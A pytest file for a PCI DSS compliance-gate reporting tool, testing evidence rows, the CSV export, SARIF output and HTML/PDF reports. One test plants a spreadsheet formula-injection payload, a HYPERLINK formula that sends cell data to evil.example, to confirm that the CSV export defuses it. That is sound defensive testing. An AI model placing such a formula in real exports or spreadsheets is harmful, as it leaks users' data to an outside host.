"""Evidence an assessor reads (issue 17): a value behind every verdict, PASS included, read from the resource or
its companion resources; the CSV export of every evidence row; honest PCI DSS v4.0.1 mappings in the reports."""

from __future__ import annotations

import csv
import html as html_module
import io
import json
import re
import shutil
import subprocess
import zlib

import jsonschema
import pytest

from policies.reports import write_reports
from policies.sourcemap import load_source_map
from tests.conftest import REPO_ROOT
from tests.reports import fixtures
from tests.reports.support import page_width, screenshot, visible_controls
from tests.reports.test_real_reports import SARIF_SCHEMA


def evidence_items(results: dict):
    for row in results["results"]:
        for evidence in row["evidence"]:
            yield row, evidence


def test_every_evidence_row_pass_included_carries_the_path_and_the_value_observed(gate_results):
    checked = 0
    for row, evidence in evidence_items(gate_results):
        if evidence["verdict"] == "ERROR":
            continue
        checked += 1
        where = (row["control"], row["resource"]["address"], evidence["check"])
        assert evidence["attribute"], where
        assert evidence["observed"] is not None, where
        if evidence["layer"] == "checkov":  # path -> value for every key checkov evaluated
            assert isinstance(evidence["observed"], dict) and evidence["observed"], where
    compliant = [e for _, e in evidence_items(gate_results) if e["verdict"] == "COMPLIANT"]
    assert checked > 1000 and len(compliant) > 1000


def test_compliant_encryption_evidence_names_the_customer_managed_key(gate_results):
    """3.5.1 behind a PASS: the KMS key reference itself, not null."""
    rows = [r for r in gate_results["results"] if r["control"] == "PCI-ENC-001" and r["verdict"] == "COMPLIANT"]
    assert rows
    for row in rows:
        [kms] = [e for e in row["evidence"] if e["check"] == "rds-cluster-storage-cmk"]
        assert kms["verdict"] == "COMPLIANT" and "aws_kms_key" in kms["observed"], kms


def test_compliant_retention_evidence_shows_the_days(gate_results):
    """10.5.1 behind a PASS: the retention in days, at least the catalog's minimum."""
    rows = [r for r in gate_results["results"] if r["control"] == "PCI-LOG-001" and r["verdict"] == "COMPLIANT"]
    assert rows
    for row in rows:
        days = [e["observed"] for e in row["evidence"] if e["layer"] == "jmespath"]
        assert days and all(isinstance(d, int) and d >= 365 for d in days), row["resource"]["address"]


def test_checkov_evidence_reads_a_value_on_the_companion_resource(gate_results):
    """The S3 default encryption lives on the bucket's encryption configuration resource: its values are shown,
    named after that resource, for compliant and excepted buckets alike."""
    rows = [r for r in gate_results["results"] if r["control"] == "PCI-ENC-004"]
    assert {r["verdict"] for r in rows} >= {"COMPLIANT", "EXCEPTED"}
    for row in rows:
        observed = {key: value for e in row["evidence"] if e["layer"] == "checkov"
                    for key, value in e["observed"].items()}
        companion = {k: v for k, v in observed.items()
                     if k.startswith("aws_s3_bucket_server_side_encryption_configuration.") and v is not None}
        assert companion, (row["resource"]["address"], observed)
        algorithms = json.dumps(companion)
        assert ("aws:kms" in algorithms) == (row["verdict"] == "COMPLIANT"), companion


def test_the_csv_export_has_one_line_per_evidence_row_with_the_assessor_columns(gate_results, real_reports):
    lines = list(csv.reader(io.StringIO((real_reports / "evidence.csv").read_text())))
    assert lines[0] == ["environment", "control", "requirement", "resource", "path", "observed", "expected",
                        "verdict"]
    body = lines[1:]
    assert len(body) == sum(1 for _ in evidence_items(gate_results))
    assert {line[0] for line in body} == {"dev", "staging", "prod"}
    assert {line[7] for line in body} >= {"COMPLIANT", "EXCEPTED"}
    assert all(line[4] and line[5] and line[6] for line in body)
    kms = [line for line in body if line[1] == "PCI-ENC-001" and line[7] == "COMPLIANT"]
    assert kms and all("3.5.1" in line[2].split() for line in kms)
    assert any("aws_kms_key" in line[5] for line in kms)


def test_the_csv_export_defuses_spreadsheet_formulas(fixture_synth, tmp_path, no_pdf):
    document = fixtures.noncompliant_document(fixture_synth)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    document["results"][1]["evidence"][0]["observed"] = formula
    document["results"][1]["evidence"][0]["expected"] = "@SUM(1+1)"
    write_reports(document, tmp_path / "reports", baseline=None, synth_dir=fixture_synth)
    lines = list(csv.reader(io.StringIO((tmp_path / "reports" / "evidence.csv").read_text())))
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'@SUM(1+1)" in cells and "'" + json.dumps(formula) not in cells  # JSON quotes it: starts with "


@pytest.fixture(scope="module")
def report_md(real_reports) -> str:
    return (real_reports / "report.md").read_text()


def test_the_requirement_view_shows_paraphrases_strengths_and_what_the_gate_cannot_evidence(gate_results, report_md):
    assert gate_results["requirements"]["version"] == "4.0.1"
    paraphrases = gate_results["requirements"]["paraphrases"]
    assert "3.5.1" in paraphrases and paraphrases["3.5.1"] in report_md
    assert "## PCI DSS v4.0.1 requirement view" in report_md
    assert "### Requirements this gate cannot evidence" in report_md
    for item in gate_results["requirements"]["not_evidenced"]:
        assert f"| {item['requirement']} | {item['kind']} |" in report_md
    view = report_md.split("## PCI DSS v4.0.1 requirement view")[1].split("### Supporting evidence only")[0]
    assert "10.4.1" not in view and "12.10.5" not in view  # supporting or unmapped: no verdict row
    assert "partial: " in view


def test_a_requirement_verdict_ignores_a_failing_supporting_control(fixture_synth, tmp_path, no_pdf):
    """10.2.1 held by a partial control that passes stays PASS although a supporting control of it fails."""
    rows = [fixtures.Row("PCI-TST-004", "dev", "aws_lambda_function", "checkout", "COMPLIANT"),
            fixtures.Row("PCI-TST-005", "dev", "aws_lambda_function", "checkout", "NON_COMPLIANT", {"x": 1})]
    controls = (fixtures.Control("PCI-TST-004", "Functions write access logs", ("10.2.1",), "low"),
                fixtures.Control("PCI-TST-005", "Functions are traced", (), "medium"))
    document = fixtures.results_document(fixture_synth, rows, controls=controls)
    document["schema_version"] = "1.2.0"
    document["controls"][0]["mappings"] = [{"requirement": "10.2.1", "strength": "partial", "reason": "logs"}]
    document["controls"][1]["mappings"] = [{"requirement": "10.2.1", "strength": "supporting", "reason": "traces"}]
    document["requirements"] = {"version": "4.0.1", "paraphrases": {"10.2.1": "Audit logs are on."},
                                "not_evidenced": [{"requirement": "10.4.1", "kind": "process",
                                                   "paraphrase": "Logs are reviewed daily."}]}
    write_reports(document, tmp_path / "reports", baseline=None, synth_dir=fixture_synth)
    markdown = (tmp_path / "reports" / "report.md").read_text()
    view = markdown.split("## PCI DSS v4.0.1 requirement view")[1].split("## Exceptions")[0]
    [verdict_row] = [line for line in view.splitlines() if line.startswith("| 10.2.1: Audit logs are on.")]
    assert "| PASS |" in verdict_row.replace("**", "") and "PCI-TST-004" in verdict_row
    assert "PCI-TST-005" not in verdict_row
    assert "| 10.4.1 | process | Logs are reviewed daily. |" in view


def tracked_files() -> set[str]:
    listed = subprocess.run(["git", "ls-files", "app"], cwd=REPO_ROOT, capture_output=True, text=True, check=True)
    return set(listed.stdout.split())


def test_the_synth_maps_every_resource_to_the_app_line_that_created_it(synth_dir):
    from policies.model import load_synth

    sources = load_source_map(synth_dir)
    provenance = json.loads((synth_dir / "provenance.json").read_text())
    assert "source-map.json" in provenance["files"]  # written before the provenance, so hashed by it
    tracked = tracked_files()
    blocks = [body["//"]["metadata"]["path"] for stack in load_synth(synth_dir)
              for kind in ("resource", "data") for bodies in stack.document.get(kind, {}).values()
              for body in bodies.values() if "//" in body]  # blocks cdktf adds itself carry no construct path
    assert len(blocks) > 500
    missing = [path for path in blocks if path not in sources]
    assert not missing, missing[:5]
    for path in blocks:
        place = sources[path]
        assert place["file"] in tracked and place["line"] >= 1, (path, place)
    # e.g. the service-logs bucket: the line is the call of the construct's class in app/components
    [bucket] = [p for p in blocks if p.endswith("-prod-data/log-archive/service-logs/bucket")]
    place = sources[bucket]
    line = (REPO_ROOT / place["file"]).read_text().splitlines()[place["line"] - 1]
    assert place["file"].startswith("app/components/") and "S3Bucket(" in line, (place, line)


def test_sarif_results_point_at_the_python_line_with_the_stack_file_related(gate_results, real_reports):
    sarif = json.loads((real_reports / "results.sarif").read_text())
    schema = json.loads(SARIF_SCHEMA.read_text())
    errors = sorted(jsonschema.Draft4Validator(schema).iter_errors(sarif), key=str)
    assert not errors, [f"{e.message} at {list(e.absolute_path)}" for e in errors[:5]]
    run = sarif["runs"][0]
    tracked = tracked_files()
    results = [r for r in run["results"] if "locations" in r]
    assert results
    for result in results:
        physical = result["locations"][0]["physicalLocation"]
        assert physical["artifactLocation"]["uriBaseId"] == "SRCROOT"
        assert physical["artifactLocation"]["uri"] in tracked and physical["region"]["startLine"] >= 1
        [related] = result["relatedLocations"]
        assert related["physicalLocation"]["artifactLocation"]["uri"].endswith("/cdk.tf.json")
    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
    levels = {"critical": "error", "high": "error", "medium": "warning", "low": "note"}
    for control in gate_results["controls"]:
        rule = rules[control["id"]]
        assert rule["defaultConfiguration"]["level"] == levels[control["severity"]]
        assert control["remediation"] in rule["help"]["markdown"]
        assert all(m["requirement"] in rule["help"]["markdown"] for m in control["mappings"])
    assert {rule["defaultConfiguration"]["level"] for rule in rules.values()} >= {"error", "warning"}
    for result in run["results"]:
        if result["properties"]["verdict"] != "ERROR":
            assert result["level"] == rules[result["ruleId"]]["defaultConfiguration"]["level"]


def test_the_html_report_of_three_environments_is_small_with_compliant_evidence_collapsed(gate_results,
                                                                                          real_reports):
    html = (real_reports / "report.html").read_text()
    assert len({environment for line in gate_results["inputs"] for environment in [line["stack"].split("-")[1]]}) == 3
    assert len(html.encode()) <= 600 * 1024
    collapsed = re.findall(r"<details><summary>(\d+) compliant resource\(s\): the values observed</summary>(.*?)"
                           r"</details>", html, re.S)
    compliant = sum(1 for row in gate_results["results"] if row["verdict"] == "COMPLIANT")
    assert sum(int(count) for count, _ in collapsed) == compliant
    assert all("<details open" not in body for _, body in collapsed)
    # the value behind a PASS is shown in the collapsed block: the cluster's KMS key reference
    assert any("rds-cluster-storage-cmk" in body and "aws_kms_key" in body for _, body in collapsed)


def pdf_outline_titles(pdf: bytes) -> list[str]:
    """The bookmark titles of a PDF (Chromium writes them as literal strings, possibly in compressed streams)."""
    raw = pdf + b"".join(_inflated(m.group(1)) for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S))
    titles = re.findall(rb"/Title ?\(((?:[^)\\]|\\.)*)\)", raw)
    return [re.sub(rb"\\(.)", rb"\1", title).decode("latin-1") for title in titles]


def _inflated(data: bytes) -> bytes:
    try:
        return zlib.decompress(data)
    except zlib.error:
        return b""


def test_the_pdf_has_page_numbers_the_run_id_on_every_page_and_a_bookmark_per_section(fixture_synth, tmp_path,
                                                                                       chromium, monkeypatch):
    monkeypatch.setenv("REPORT_CHROMIUM", chromium)
    document = fixtures.noncompliant_document(fixture_synth)
    write_reports(document, tmp_path, baseline=None, synth_dir=fixture_synth)
    html = (tmp_path / "report.html").read_text()
    sections = re.findall(r'<h2[^>]*id="[^"]+"[^>]*>([^<]+)</h2>', html)
    assert len(sections) >= 6
    titles = pdf_outline_titles((tmp_path / "report.pdf").read_bytes())
    assert [s for s in sections if html_module.unescape(s) not in titles] == [], titles
    run_id = document["run"]["started_at"]
    pdftotext = shutil.which("pdftotext")
    if pdftotext is None:  # CI has Chromium, not poppler: the margin boxes that print them must be there
        assert f'content: "PCI DSS policy gate run {run_id}"' in html and "counter(pages)" in html
        return
    pages = subprocess.run([pdftotext, "-layout", str(tmp_path / "report.pdf"), "-"], capture_output=True,
                           text=True, check=True).stdout.split("\f")[:-1]
    assert len(pages) > 3
    for number, page in enumerate(pages, start=1):
        assert f"page {number} of {len(pages)}" in page and f"PCI DSS policy gate run {run_id}" in page, number


@pytest.mark.parametrize("width", [1440, 390])
def test_the_html_report_has_no_horizontal_overflow(real_reports, chromium, tmp_path, width):
    image = screenshot(chromium, real_reports / "report.html", tmp_path / f"report-{width}.png", f"{width},2000")
    assert image.stat().st_size > 20_000, "the screenshot is (nearly) blank"
    scroll_width, viewport = page_width(chromium, real_reports / "report.html", tmp_path / "probe", width)
    assert viewport == width and scroll_width <= viewport, (scroll_width, viewport)


def test_the_report_filters_by_environment_status_and_requirement_without_script(gate_results, real_reports,
                                                                                 chromium, tmp_path):
    page = real_reports / "report.html"
    html = page.read_text()
    assert "<script" not in html.lower()
    every = visible_controls(chromium, page, tmp_path / "all", "")
    assert len(every) == len(gate_results["controls"])
    excepted_in_prod = visible_controls(chromium, page, tmp_path / "prod", "#only-prod-EXCEPTED")
    assert excepted_in_prod == ["control-PCI-ENC-004"]  # the service-logs bucket's recorded exception
    assert 'href="#only-prod-EXCEPTED"' in html
    passing_in_dev = visible_controls(chromium, page, tmp_path / "dev", "#only-dev-PASS")
    assert 0 < len(passing_in_dev) < len(every) and "control-PCI-ENC-004" not in passing_in_dev
    by_requirement = visible_controls(chromium, page, tmp_path / "req", "#only-req-3_5_1")
    expected = [f"control-{c['id']}" for c in gate_results["controls"] if "3.5.1" in c["requirements"]]
    assert by_requirement == expected and len(expected) >= 5
